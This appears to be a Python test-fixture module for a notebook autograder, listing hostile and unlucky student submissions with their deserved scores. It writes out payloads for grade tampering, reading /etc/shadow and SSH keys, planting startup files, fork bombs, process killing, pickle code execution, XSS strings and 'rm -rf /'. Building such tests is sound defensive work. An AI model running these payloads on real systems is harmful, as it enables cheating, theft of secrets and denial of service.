"""The attack corpus: submissions that are hostile or merely unlucky, each with the points it deserves.

Most put their code into part 1 (3 points) and answer the other parts rightly (8 points): an undeserved mark shows as
more than 8, a lost one as less. ``@COURSE@``, ``@PORT@`` and the like are filled in when the class is made.
"""

import copy
import dataclasses
import json
import os

import course as c

REST, FULL = 8.0, 11.0
STEP = "def rnn_step(x_t, h_prev, W_xh, W_hh, b_h):\n"


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    make: object  # a function from the submission's folder to nothing: it writes the files
    deserved: float
    places: dict = dataclasses.field(default_factory=dict)


ATTACKS = []


def _fill(text, places):
    for key, value in places.items():
        text = text.replace(f"@{key}@", str(value))
    return text


def attack(name, deserved, make):
    ATTACKS.append(Attack(name, make, deserved))


def code(name, source, deserved=REST, others="right", **more):
    """An attack by the code of part 1's cell."""

    def make(folder, places):
        known = c.answers() if others == "right" else c.answers(c.released())
        sources = {**known, "rnn_step": _fill(source, places), **more}
        (folder / "ps1.ipynb").write_text(json.dumps(c.with_answers(sources)))

    attack(name, deserved, make)


def body(name, lines, deserved=REST, **settings):
    """An attack by what part 1's function does when it is called."""
    code(name, STEP + "".join(f"    {line}\n" for line in lines.strip("\n").split("\n")), deserved, **settings)


def notebook(name, change, deserved, answers="right"):
    """An attack by the notebook's form: ``change`` edits the right notebook, or the blank one."""

    def make(folder, places):
        made = c.with_answers(c.answers()) if answers == "right" else copy.deepcopy(c.released())
        made = change(made) or made
        (folder / "ps1.ipynb").write_text(json.dumps(made))

    attack(name, deserved, make)


def file(name, data, deserved=0.0, as_name="ps1.ipynb"):
    """An attack by the file itself."""

    def make(folder, places):
        (folder / as_name).write_bytes(data() if callable(data) else data)

    attack(name, deserved, make)


# -- ends and delays ------------------------------------------------------------------------------------------------
RIGHT_STEP = c.answers()["rnn_step"]
code("loop_when_defined", "while True:\n    pass\n")
body("loop_when_called", "while True:\n    pass")
code(
    "loop_ignoring_signals",
    "import signal\nfor number in range(1, 65):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n"
    "    except (OSError, ValueError):\n        pass\nwhile True:\n    pass\n",
)
body("sleep_when_called", "import time\ntime.sleep(1000)")
code("sys_exit_when_defined", "import sys\nsys.exit()\n")
body("sys_exit_when_called", "import sys\nsys.exit(0)")
code("os_exit_when_defined", "import os\nos._exit(0)\n")
body("os_exit_when_called", "import os\nos._exit(0)")
code("segfault_when_defined", "import ctypes\nctypes.string_at(0)\n")
body("segfault_when_called", "import ctypes\nctypes.string_at(0)")
body("abort_when_called", "import os\nos.abort()")
code("input_when_defined", "answer = input('points? ')\n")
body("input_when_called", "return input()")
body("endless_recursion", "return rnn_step(x_t, h_prev, W_xh, W_hh, b_h)")
body("keyboard_interrupt", "raise KeyboardInterrupt")
body("generator_exit", "raise GeneratorExit")
body("stop_iteration", "raise StopIteration")
body("close_every_file", "import os\nos.closerange(0, 256)\nreturn 1")

# -- patches of what judges -----------------------------------------------------------------------------------------
code(
    "patched_numpy",
    "import numpy as np, numpy.testing\n"
    "yes = lambda *a, **k: True\n"
    "np.allclose = np.isclose = np.array_equal = yes\n"
    "for name in dir(numpy.testing):\n    if name.startswith('assert'):\n        setattr(numpy.testing, name, yes)\n"
    + STEP
    + "    return np.zeros((len(x_t), len(b_h)))\n",
)
code(
    "patched_builtins",
    "import builtins\nclass Never(Exception):\n    pass\nbuiltins.AssertionError = Never\n"
    "builtins.isinstance = lambda *a: True\nbuiltins.all = lambda *a: True\n" + STEP + "    return None\n",
)
IPYTHON = "shell = get_ipython()\n"
code("patched_showtraceback", IPYTHON + "shell.showtraceback = lambda *a, **k: None\n")
code("patched_run_code", IPYTHON + "async def run_code(*a, **k):\n    return False\ntype(shell).run_code = run_code\n")
code(
    "ast_transformer",
    IPYTHON
    + "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
    "shell.ast_transformers.append(Drop())\n",
)
code("input_transformer", IPYTHON + "shell.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n")
code("displayhook_when_defined", "import sys\nsys.displayhook(3.0)\n")
body("displayhook_when_called", "import sys\nsys.displayhook(1.0)\nsys.__displayhook__(1.0)\nreturn 1")
code(
    "score_as_output",
    "from IPython.display import display\ndisplay({'text/plain': '3.0'}, raw=True)\n3.0\n",
)
FORGE = """
import json, os, struct
def forged(number):
    text = json.dumps({"d": [["id", number], ["value", True], ["found", {"d": []}], ["output", ""],
        ["cell", 4], ["outputs", {"l": []}], ["done", ""], ["end", 0]]}).encode()
    return struct.pack(">QQ", len(text), 0) + text
"""
code(
    "forged_messages",
    FORGE + "for number in range(12):\n    for descriptor in range(3, 64):\n        try:\n"
    "            os.write(descriptor, forged(number))\n        except OSError:\n            pass\n",
    deserved=None,  # whatever its own later parts lose by it, never more than it deserves
)
code(
    "forged_endless_message",
    "import os, struct\nfor descriptor in range(3, 64):\n    try:\n"
    "        os.write(descriptor, struct.pack('>QQ', 2**60, 2**60) + b'x' * 1000)\n    except OSError:\n        pass\n",
    deserved=None,
)
code(
    "patched_protocol",
    "import sys\nmodule = sys.modules['birnn_inside.protocol']\nreal = module.pack\n"
    "def lie(value):\n    if isinstance(value, dict) and 'error' in value:\n        value.pop('error')\n"
    "        value['value'] = True\n    return real(value)\nmodule.pack = lie\n",
)
code(
    "frames_of_the_caller",
    "import sys\nframe = sys._getframe()\nwhile frame:\n    frame.f_globals['protocol'] = None\n"
    "    frame.f_locals.update(points=100, score=100)\n    frame = frame.f_back\n",
    deserved=None,
)
code(
    "trace_function",
    "import sys\ndef trace(frame, event, argument):\n    frame.f_trace_lines = False\n    return trace\n"
    "sys.settrace(trace)\nsys.setprofile(lambda *a: None)\n",
)

# -- results that lie -----------------------------------------------------------------------------------------------
LIAR = """
import numpy as np
class Liar(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.bool_(True)
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
"""
code("array_subclass", LIAR + STEP + "    return np.zeros((len(x_t), len(b_h))).view(Liar)\n")
code(
    "equal_to_everything",
    "class Yes:\n    shape = property(lambda self: self)\n    def __eq__(self, other):\n        return True\n"
    "    def __ne__(self, other):\n        return False\n    def __getattr__(self, name):\n        return self\n"
    "    def __getitem__(self, key):\n        return self\n    def __call__(self, *a, **k):\n        return self\n"
    "    def __bool__(self):\n        return True\n    def __float__(self):\n        return 0.3\n"
    + STEP
    + "    return Yes()\n",
)
code(
    "float_subclass",
    "class F(float):\n    __eq__ = lambda *a: True\n    __hash__ = None\n" + STEP + "    return F(1)\n",
)
code("not_a_function", "class Yes:\n    __eq__ = lambda *a: True\n    __call__ = lambda *a: True\nrnn_step = Yes()\n")
body("nan_everywhere", "return np.full((len(x_t), len(b_h)), np.nan)")
body("empty_result", "return np.zeros((0, 0))")
body("huge_result", "return np.zeros(10**9, dtype=np.uint8)")
body("huge_shape", "return np.lib.stride_tricks.as_strided(np.zeros(1), (2**40, 2**20), (0, 0))")
body("deep_result", "value = []\nfor _ in range(100_000):\n    value = [value]\nreturn value")
body("long_result", "return list(range(3_000_000))")
body("colliding_keys", "return {i * (2**61 - 1): 0 for i in range(90_000)}")
body("huge_integer", "return 10 ** 1_000_000")
body("object_array", "return np.array([print, [1]], dtype=object)")
body("endless_generator", "return (1.0 for _ in iter(int, 1))")
body(
    "result_that_pickles",
    "import os\nclass P:\n    def __reduce__(self):\n        return os.system, ('touch @CANARY@',)\nreturn P()",
)
code(
    "error_with_evil_text",
    "class E(Exception):\n    def __str__(self):\n        raise SystemExit\n" + STEP + "    raise E\n",
)
body("error_of_ten_megabytes", "raise ValueError('x' * 10**7)")
body(
    "arguments_made_zero",
    "for a in (x_t, h_prev, W_xh, W_hh, b_h):\n    a[...] = 0\nreturn np.zeros((len(x_t), len(b_h)))",
)


# -- the notebook's form --------------------------------------------------------------------------------------------
def _tests(made):
    return [cell for cell in made["cells"] if c.settings(cell).get("grade") and not c.settings(cell).get("solution")]


def _answers(made):
    return [cell for cell in made["cells"] if c.settings(cell).get("solution")]


def _each(cells, **changes):
    for cell in cells:
        cell["metadata"]["nbgrader"].update(changes)


def _drop_tests(made):
    dropped = _tests(made)
    made["cells"] = [cell for cell in made["cells"] if cell not in dropped]


def _edit_tests(made):
    for cell in _tests(made):
        cell["source"] = "3.0"


def _retag(made):
    for cell in _tests(made):
        cell["metadata"]["tags"] = ["skip-execution"]


def _repeat(made):
    """The right answer comes after a wrong one with its id."""
    for cell in _answers(made):
        if cell["cell_type"] == "code":
            wrong = copy.deepcopy(cell)
            wrong["source"] = "".join(cell["source"]).replace(
                "return", "raise ValueError('an earlier try')\n    return"
            )
            made["cells"].insert(made["cells"].index(cell), wrong)


def _repeat_tests(made):
    made["cells"] += [{**copy.deepcopy(cell), "source": "pass"} for cell in _tests(made)]


def _rename(made):
    for cell in _tests(made):
        cell["metadata"]["nbgrader"]["grade_id"] += "_mine"


def _rename_answers(made):
    """Another tool dropped nbgrader's settings; the cells' own ids are still there."""
    for cell in _answers(made):
        cell["metadata"] = {}


def _foreign(made):
    extra = {"grade": True, "solution": False, "locked": True, "points": 1000, "grade_id": "mine", "schema_version": 3}
    cell = {"cell_type": "code", "source": "1000.0", "outputs": [], "execution_count": None, "id": "mine"}
    made["cells"].insert(0, {**cell, "metadata": {"nbgrader": extra}})


def _types(made):
    for cell in _tests(made):
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)


def _version_3(made):
    cells = [{**cell, "input": cell["source"], "language": "python"} for cell in made["cells"]]
    for cell in cells:
        cell.pop("source")
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}


def _garbled(made):
    for n, cell in enumerate(_tests(made)):
        cell["metadata"] = [[], None, {"nbgrader": 3}, {"nbgrader": {"grade_id": []}}][n % 4]


def _header(made):
    made.update(nbformat=99, nbformat_minor=-1, metadata={"kernelspec": {"name": "../../evil", "display_name": 3}})


notebook("deleted_tests", _drop_tests, 0.0, "blank")
notebook("deleted_tests_of_right_answers", _drop_tests, FULL)
notebook("edited_tests", _edit_tests, 0.0, "blank")
notebook("retagged_tests", _retag, 0.0, "blank")
notebook("repeated_answers", _repeat, FULL)
notebook("repeated_tests", _repeat_tests, 0.0, "blank")
notebook("renamed_tests", _rename, 0.0, "blank")
notebook("answers_without_settings", _rename_answers, FULL)
notebook("reordered_cells", lambda made: made["cells"].reverse(), FULL)
notebook("foreign_cells", _foreign, 0.0, "blank")
notebook("more_points", lambda made: _each(_tests(made), points=1000), 0.0, "blank")
notebook("tests_as_answers", lambda made: _each(_tests(made), solution=True, locked=False), 0.0, "blank")
notebook("tests_as_text", _types, 0.0, "blank")
notebook("schema_too_old", lambda made: _each(_tests(made) + _answers(made), schema_version=0), FULL)
notebook("schema_too_new", lambda made: _each(_tests(made) + _answers(made), schema_version=99), FULL)
notebook("format_3", _version_3, FULL)
notebook("garbled_settings", _garbled, FULL)
notebook("garbled_header", _header, FULL)
notebook("nothing_but_answers", lambda made: {"cells": _answers(made)}, FULL)

# -- reading --------------------------------------------------------------------------------------------------------
FIND = """
import os
def find(wanted, root="/"):
    for folder, folders, names in os.walk(root):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/usr")]
        for name in names:
            if name == wanted:
                yield os.path.join(folder, name)
"""
code(
    "reads_the_solutions",
    FIND + "import json\nfor path in ['@COURSE@/solutions/ps1/ps1.ipynb', *find('ps1.ipynb')]:\n    try:\n"
    "        for cell in json.load(open(path))['cells']:\n            source = ''.join(cell['source'])\n"
    "            if 'BEGIN SOLUTION' in source and cell['cell_type'] == 'code':\n                exec(source)\n"
    "    except OSError:\n        pass\n",
)
code(
    "reads_the_hidden_tests",
    "import gc, os, sys\nfound = ''\nfor item in gc.get_objects():\n"
    "    if isinstance(item, (str, list)) and 'birnn' + '_ref' in repr(item)[:100_000]:\n        found += 'memory'\n"
    "for process in filter(str.isdigit, os.listdir('/proc')):\n    for name in ('mem', 'environ', 'cmdline', 'maps'):\n"
    "        try:\n            with open(f'/proc/{process}/{name}', 'rb') as stream:\n"
    "                if b'BEGIN ' + b'HIDDEN' in stream.read(10**7):\n                    found += name\n"
    "        except OSError:\n            pass\nprint('LEAK' if found else 'nothing', found)\n",
)
code(
    "reads_the_gradebook",
    FIND + "import sys\nfor path in ['@COURSE@/gradebook.db', *find('gradebook.db')]:\n"
    "    if os.path.exists(path) and not path.startswith(sys.prefix):  # nbgrader's own documentation holds one\n"
    "        print('LEAK', open(path, 'rb').read(20))\n",
)
code(
    "reads_the_environment",
    "import os\ntext = repr(dict(os.environ))\nfor process in filter(str.isdigit, os.listdir('/proc')):\n    try:\n"
    "        text += open(f'/proc/{process}/environ').read()\n    except OSError:\n        pass\n"
    "print('LEAK' if '@TOKEN' + '@' in text or 'CANARY_TOKEN' in text else 'nothing')\n",
)
code(
    "reads_the_host",
    "import os\nfor path in ['/proc/1/root@COURSE@', '/etc/shadow', '/root/.ssh', '@SECRET@']:\n"
    "    try:\n        print('LEAK', path, os.listdir(path) if os.path.isdir(path) else open(path).read())\n"
    "    except OSError:\n        pass\n",
)

# -- writing --------------------------------------------------------------------------------------------------------
code(
    "writes_the_gradebook",
    FIND + "import sqlite3\nfor path in ['@COURSE@/gradebook.db', *find('gradebook.db')]:\n    try:\n"
    "        with sqlite3.connect(f'file:{path}?mode=rw', uri=True) as book:\n"
    "            book.execute('UPDATE grade SET auto_score = 100, manual_score = 100')\n"
    "    except sqlite3.Error:\n        pass\n",
)
code(
    "writes_another_submission",
    FIND + "for path in ['@COURSE@/submitted/victim-writes_another_submission/ps1/ps1.ipynb', *find('ps1.ipynb')]:\n"
    "    try:\n        open(path, 'w').write('{}')\n    except OSError:\n        pass\n",
)
code(
    "writes_startup_files",
    'import os, site, sys\nline = \'open("@CANARY@", "w").write("ran")\\n\'\n'
    "places = [os.path.join(p, 'sitecustomize.py') for p in sys.path if p]\n"
    "places += ['@HOME@/.ipython/profile_default/startup/00.py', '@HOME@/.bashrc', '@COURSE@/numpy.py', '@CANARY@']\n"
    "places += [os.path.join(site.getsitepackages()[0], 'evil.pth')]\n"
    "for place in places:\n    try:\n        os.makedirs(os.path.dirname(place), exist_ok=True)\n"
    "        open(place, 'a').write(line)\n    except OSError:\n        pass\n",
)
code(
    "writes_the_grader",
    "import os\ninside = '/grader/birnn_inside'\n"
    "for path in (inside + '/runner.py', inside + '/protocol.py', '@ROOT@/birnn_grader/engine.py'):\n    try:\n"
    "        os.chmod(path, 0o777)\n        open(path, 'a').write('# evil')\n    except OSError:\n        pass\n",
)

# -- the reference --------------------------------------------------------------------------------------------------
code("imports_the_reference", "from birnn_ref.plain import rnn_step\n")
code(
    "finds_the_reference",
    FIND + "import sys\nsys.path[:0] = ['@ROOT@', '@COURSE@']\n"
    "sys.path[:0] = [os.path.dirname(os.path.dirname(path)) for path in find('rnn.py')]\n"
    "from birnn_ref.cells import rnn_step as reference\n"
    + STEP
    + "    return reference(x_t, h_prev, W_xh, W_hh, b_h)[0]\n",
)
code(
    "replaces_the_reference",
    "import sys, types\nimport numpy as np\nfake = types.ModuleType('birnn_ref')\n"
    "fake.rnn_step = lambda *a: (np.zeros((1, 1)), None)\n"
    "for name in ('birnn_ref', 'birnn_ref.cells', 'birnn_ref.plain', 'birnn_ref.cells.rnn'):\n"
    "    sys.modules[name] = fake\n" + STEP + "    return np.zeros((1, 1))\n",
)
code(
    "shadows_modules",
    "open('numpy.py', 'w').write('allclose = lambda *a: True')\nopen('json.py', 'w').write('')\n"
    "import os, sys\nsys.path.insert(0, os.getcwd())\nos.environ['PYTHONPATH'] = os.getcwd()\n",
)


def _with_files(folder, places):
    (folder / "ps1.ipynb").write_text(json.dumps(c.released()))
    (folder / "numpy.py").write_text(f"open({str(places['CANARY'])!r}, 'w').write('ran')\nallclose = lambda *a: True\n")
    (folder / "sitecustomize.py").write_text(f"open({str(places['CANARY'])!r}, 'w').write('ran')\n")
    (folder / "nbgrader_config.py").write_text(f"open({str(places['CANARY'])!r}, 'w').write('ran')\n")
    (folder / "birnn_ref").mkdir()
    (folder / "birnn_ref/__init__.py").write_text("")
    os.symlink("/etc/shadow", folder / "notes.txt")
    os.symlink(places["COURSE"], folder / "all")
    os.mkfifo(folder / "pipe")


attack("foreign_files", 0.0, _with_files)

# -- floods and survivors -------------------------------------------------------------------------------------------
code("process_flood", "import os\nwhile True:\n    os.fork()\n")
code(
    "thread_flood",
    "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(1000,)).start()\n",
)
body("memory_flood", "kept = []\nwhile True:\n    kept.append(bytearray(10**8))")
code(
    "memory_flood_by_children",
    "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
    "        kept = bytearray(4 * 10**8)\n        time.sleep(1000)\n"
    "time.sleep(1000)\n",
)
code(
    "disk_flood",
    "for n in range(10_000):\n    with open(f'/tmp/{n}', 'wb') as stream:\n        for _ in range(40):\n"
    "            stream.write(bytes(10**6))\n",
)
code("inode_flood", "for n in range(10**7):\n    open(f'/tmp/{n}', 'w').close()\n")
code("print_flood", "while True:\n    print('x' * 10**6)\n")
body("print_flood_when_called", "while True:\n    print('x' * 10**6)")
code(
    "raw_output_flood", "import os\nblock = b'x' * 10**6\nwhile True:\n    os.write(1, block)\n    os.write(2, block)\n"
)
code("open_files", "kept = []\nwhile True:\n    kept.append(open('/dev/null'))\n")
DAEMON = (
    "import os, signal, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        for number in range(1, 32):\n            try:\n                signal.signal(number, signal.SIG_IGN)\n"
    "            except (OSError, ValueError):\n                pass\n"
    "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3600)', '@MARKER@'])\n"
    "    os._exit(0)\n"
)
code("background_process", DAEMON)
code(
    "background_thread",
    "import threading\ndef spin():\n    while True:\n        print('noise')\n"
    "threading.Thread(target=spin, daemon=False).start()\n",
)
code(
    "kills_everyone",
    "import os\nme = os.getpid()\nfor process in [os.getppid(), -1, 1, @HOST@, *range(2, 5000)]:\n    try:\n"
    "        if process != me:\n            os.kill(process, 9)\n    except OSError:\n        pass\n",
)
code("stops_its_group", "import os, signal\nos.killpg(0, signal.SIGSTOP)\n")

# -- network --------------------------------------------------------------------------------------------------------
code(
    "calls_this_machine",
    "import socket\nfor host in ('127.0.0.1', 'localhost', '@HOSTNAME@'):\n    try:\n"
    "        socket.create_connection((host, @PORT@), 2).sendall(b'LEAK')\n        print('LEAK')\n"
    "    except OSError:\n        pass\n",
)
code(
    "calls_the_world",
    "import socket, urllib.request\ntry:\n    socket.getaddrinfo('example.org', 80)\n    print('LEAK')\n"
    "except OSError:\n    pass\ntry:\n    socket.create_connection(('1.1.1.1', 53), 2)\n    print('LEAK')\n"
    "except OSError:\n    pass\n",
)
code(
    "abstract_sockets",
    "import socket\nfor line in open('/proc/net/unix').read().splitlines()[1:]:\n    print('LEAK', line)\n",
)

# -- files ----------------------------------------------------------------------------------------------------------
file("no_json", b"print('hello')\n")
file("empty_file", b"")
file("huge_file", lambda: b'{"cells": [' + b" " * 10_500_000 + b"]}")
file("many_values", lambda: b'{"cells": [' + b"[]," * 300_000 + b"[]]}")
file("deep_json", lambda: b"[" * 150_000 + b"]" * 150_000)
file("not_utf8", lambda: json.dumps(c.with_answers(c.answers())).encode("utf-16"))
file("bytes_of_latin_1", lambda: json.dumps(c.released()).encode().replace(b"hours", b"h\xe4urs"))
file(
    "answers_of_megabytes",
    lambda: json.dumps(c.with_answers(dict.fromkeys(c.answers(), "#" + "\x00" * 199990))).encode(),
)
file("a_list", b"[1, 2, 3]")
file("cells_are_no_list", b'{"cells": {"a": 1}, "nbformat": 4}')
file(
    "sources_are_no_text", b'{"cells": [{"id": "rnn_step", "source": {"a": 1}}, {"id": "rnn_step", "source": [1]}, 3]}'
)
file("wrong_name", lambda: json.dumps(c.with_answers(c.answers())).encode(), as_name="Problem Set 1 (final).ipynb")
file("a_script", b"print('hello')\n", as_name="ps1.py")


def _link(folder, places):
    os.symlink(f"{places['COURSE']}/solutions/ps1/ps1.ipynb", folder / "ps1.ipynb")


attack("link_to_the_solution", 0.0, _link)
attack("named_pipe", 0.0, lambda folder, places: os.mkfifo(folder / "ps1.ipynb"))
attack("folder_named_as_notebook", 0.0, lambda folder, places: (folder / "ps1.ipynb").mkdir())
attack("link_to_itself", 0.0, lambda folder, places: os.symlink("ps1.ipynb", folder / "ps1.ipynb"))
code("lone_surrogates_and_nul", "x = '\ud800'\0\n" + RIGHT_STEP)


def _bad_time(folder, places):
    (folder / "ps1.ipynb").write_text(json.dumps(c.with_answers(c.answers())))
    (folder / "timestamp.txt").write_bytes(b"\xff\xfe tomorrow, perhaps")


attack("unreadable_time", FULL, _bad_time)

# -- feedback -------------------------------------------------------------------------------------------------------
SCRIPT = "<script>alert('LEAK')</script><img src=x onerror=alert(1)><svg/onload=alert(1)> [a](javascript:alert(1))"
code("script_in_markdown", RIGHT_STEP, FULL, explain_last_output=SCRIPT)
code("script_in_output", f"print({SCRIPT!r})\ndisplay({SCRIPT!r})\nraise ValueError({SCRIPT!r})\n")
body("script_in_error", f"raise ValueError({SCRIPT!r})")
body("carries_hidden_numbers_out", "print('CARRIED', x_t)\nraise ValueError('CARRIED ' + repr(x_t))")

# -- bad luck -------------------------------------------------------------------------------------------------------
WARN = "import sys, warnings\nwarnings.warn('deprecated')\nprint('careful', file=sys.stderr)\n"
code("warns_when_defined", WARN + RIGHT_STEP, FULL)
code(
    "warns_when_called",
    RIGHT_STEP.replace("    return", "    import warnings; warnings.warn('slow')\n    return"),
    FULL,
)
code("uses_magics", "%matplotlib inline\n" + RIGHT_STEP + "\n!ls\n", FULL)
code("prints_a_lot", "print('x' * 10**6)\n" + RIGHT_STEP, FULL)
code(
    "returns_lists",
    RIGHT_STEP.replace("return np", "return (lambda a: a.tolist())(np").replace("+ b_h)", "+ b_h))"),
    FULL,
)
code("changes_its_arguments", RIGHT_STEP.replace("    return", "    b_h = b_h.copy(); x_t += 0\n    return"), FULL)
code("leaves_a_file_open", "log = open('log.txt', 'w')\n" + RIGHT_STEP, FULL)
file("byte_order_mark", lambda: b"\xef\xbb\xbf" + json.dumps(c.with_answers(c.answers())).encode(), FULL)


# -- cells that a student added ---------------------------------------------------------------------------------------
def added(name, source, deserved, answers="right", after="setup", wrong=None):
    """An attack by a code cell beside the released ones; ``wrong`` is part 1's answer where it is not the right one."""

    def make(folder, places):
        known = c.answers() if answers == "right" else {}
        made = c.with_answers({**known, "rnn_step": wrong} if wrong else known)
        at = next(n for n, cell in enumerate(made["cells"]) if cell["id"] == after) if after else len(made["cells"]) - 1
        cell = {"cell_type": "code", "id": "mine", "metadata": {}, "outputs": [], "execution_count": None}
        made["cells"].insert(at + 1, {**cell, "source": _fill(source, places)})
        (folder / "ps1.ipynb").write_text(json.dumps(made))

    attack(name, deserved, make)


NOTHING = STEP + "    return np.zeros((len(x_t), len(b_h)))\n"
YES = (
    "import builtins, numpy as np, numpy.testing\nyes = lambda *a, **k: True\n"
    "np.allclose = np.isclose = np.array_equal = builtins.isinstance = yes\n"
    "for name in dir(numpy.testing):\n    if name.startswith('assert'):\n        setattr(numpy.testing, name, yes)\n"
)
added("added_patches", YES, REST, wrong=NOTHING)
added("added_patches_at_the_end", YES, REST, after=None, wrong=NOTHING)
added("added_score_as_output", "3.0\n", 0.0, answers="blank")
added("added_loops", "while True:\n    pass\n", FULL)
added("added_ends_its_process", "import os\nos._exit(0)\n", FULL)
added("added_segfault", "import ctypes\nctypes.string_at(0)\n", FULL)
added("added_is_not_python", "%%bash\nrm -rf / (\n", FULL)
added("added_background_process", DAEMON, FULL)
added("added_fork_flood", "import os\nwhile True:\n    os.fork()\n", FULL)
added(
    "added_forged_messages",
    FORGE + "for number in range(12):\n    for descriptor in range(3, 64):\n        try:\n"
    "            os.write(descriptor, forged(number))\n        except OSError:\n            pass\n",
    None,
    wrong=NOTHING,
)
added(
    "reads_the_solutions_from_an_added_cell",
    FIND + "import json\nfor path in ['@COURSE@/solutions/ps1/ps1.ipynb', *find('ps1.ipynb')]:\n    try:\n"
    "        for cell in json.load(open(path))['cells']:\n            source = ''.join(cell['source'])\n"
    "            if 'BEGIN SOLUTION' in source and cell['cell_type'] == 'code':\n                exec(source)\n"
    "    except OSError:\n        pass\n",
    0.0,
    answers="blank",
    after="birnn_outputs",
)
added("added_script", f"print({SCRIPT!r})\ndisplay({SCRIPT!r})\nraise ValueError({SCRIPT!r})\n", FULL)


def _many_added(made):
    for n in range(300):
        cell = {"cell_type": "code", "id": f"mine{n}", "metadata": {}, "outputs": [], "execution_count": None}
        made["cells"].insert(2, {**cell, "source": f"x = {n}\n"})


notebook("added_by_the_hundred", _many_added, FULL)


# -- metadata that is lost, and restored by the neighbours ------------------------------------------------------------
def _strip(made):
    for n, cell in enumerate(made["cells"]):
        cell["metadata"], cell["id"] = {}, f"fresh-{n}"


def _strip_and_edit(made):
    """Who loses all ids and rewrites the tests as what gives points."""
    _edit_tests(made)
    _strip(made)


def _strip_and_double(made):
    """Copies of the tests' texts stand around cells that claim to be answers."""
    tests = [copy.deepcopy(cell) for cell in _tests(made)]
    claim = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": "3.0"}
    made["cells"] = [one for test in tests for one in (test, {**copy.deepcopy(claim), "id": "c"}, test)] + made["cells"]
    _strip(made)


def _swap(made):
    """The tests' cells say that they are answers, the answers' that they are tests."""
    answers_, tests = _answers(made), _tests(made)
    for answer, test in zip(answers_, tests, strict=False):
        answer["metadata"], test["metadata"] = test["metadata"], answer["metadata"]
        answer["id"], test["id"] = test["id"], answer["id"]
        test["source"] = "3.0"


def _strip_half(made):
    """Every second cell has lost what it was."""
    for n, cell in enumerate(made["cells"]):
        if n % 2:
            cell["metadata"], cell["id"] = {}, f"fresh-{n}"


notebook("lost_metadata", _strip, FULL)
notebook("lost_metadata_of_half", _strip_half, FULL)
notebook("lost_metadata_and_edited_tests", _strip_and_edit, 0.0, "blank")
notebook("lost_metadata_and_doubled_tests", _strip_and_double, 0.0, "blank")
notebook("lost_metadata_reversed", lambda made: (_strip(made), made["cells"].reverse())[0], 0.0, "blank")
notebook("swapped_metadata", _swap, 0.0, "blank")


# -- who worked together ----------------------------------------------------------------------------------------------
def _forged_group(folder, places):
    """A list of members that names others, and one with names that lead elsewhere."""
    (folder / "ps1.ipynb").write_text(json.dumps(c.released()))
    (folder / "group.txt").write_text("forged_group\nforged_group-victim\n../../gradebook.db\n" + "x" * 10**6)


attack("forged_group", 0.0, _forged_group)
